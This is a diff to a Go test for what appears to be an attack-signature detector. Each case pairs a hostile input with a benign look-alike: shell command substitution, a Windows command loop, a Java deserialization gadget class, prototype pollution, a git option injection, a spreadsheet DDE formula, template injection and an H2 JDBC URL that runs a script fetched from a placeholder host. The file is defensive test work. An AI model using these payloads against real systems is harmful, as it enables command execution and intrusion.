@@ -27,6 +27,8 @@ func TestSigns(t *testing.T) {
 	f(&windowsLoop, point.Text, `& for /f %i in ('whoami') do echo %i`, `for 5% in cash (net)`)
 	f(&windowsSlice, point.Text, `%COMSPEC:~0,1%`, `50% :~ 20%`)
 	f(&quoteClosed, point.Text, `x'|echo a b`, `'x'|echo a b`)
+	f(&outputRun, point.Text, `;$(echo id|tr a-z b-za)`, `the total is $(echo id|tr a-z b-za)`)
+	f(&imageCoder, point.Text, `ephemeral:/tmp/a.png`, `label: @home`)
 	f(&nestedCall, point.Text, `die(md5(1))`, `die(1)`)
 	f(&gadgetClass, point.Text, `com.sun.rowset.JdbcRowSetImpl`, `com.example.RowSet`)
 	f(&codeCall, point.Text, `system('id')`, `the system (id)`)
@@ -39,6 +41,8 @@ func TestSigns(t *testing.T) {
 	f(&prototype, point.Text, `a[__proto__][x]`, `a[proto][x]`)
 	f(&option, point.Text, `--upload-pack=touch x`, `--upload=photo.jpg`)
 	f(&formula, point.Text, `=cmd|' /C calc'!A0`, `=A1|B1!`)
+	f(&driverURL, point.Text, `jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'`, `jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS A`)
+	f(&phrase, point.Text, `"ps".execute()`, `"of the plan".execute()`)
 	f(&template, point.Text, `{{7*7}}`, `{{name}}`)
 }
 
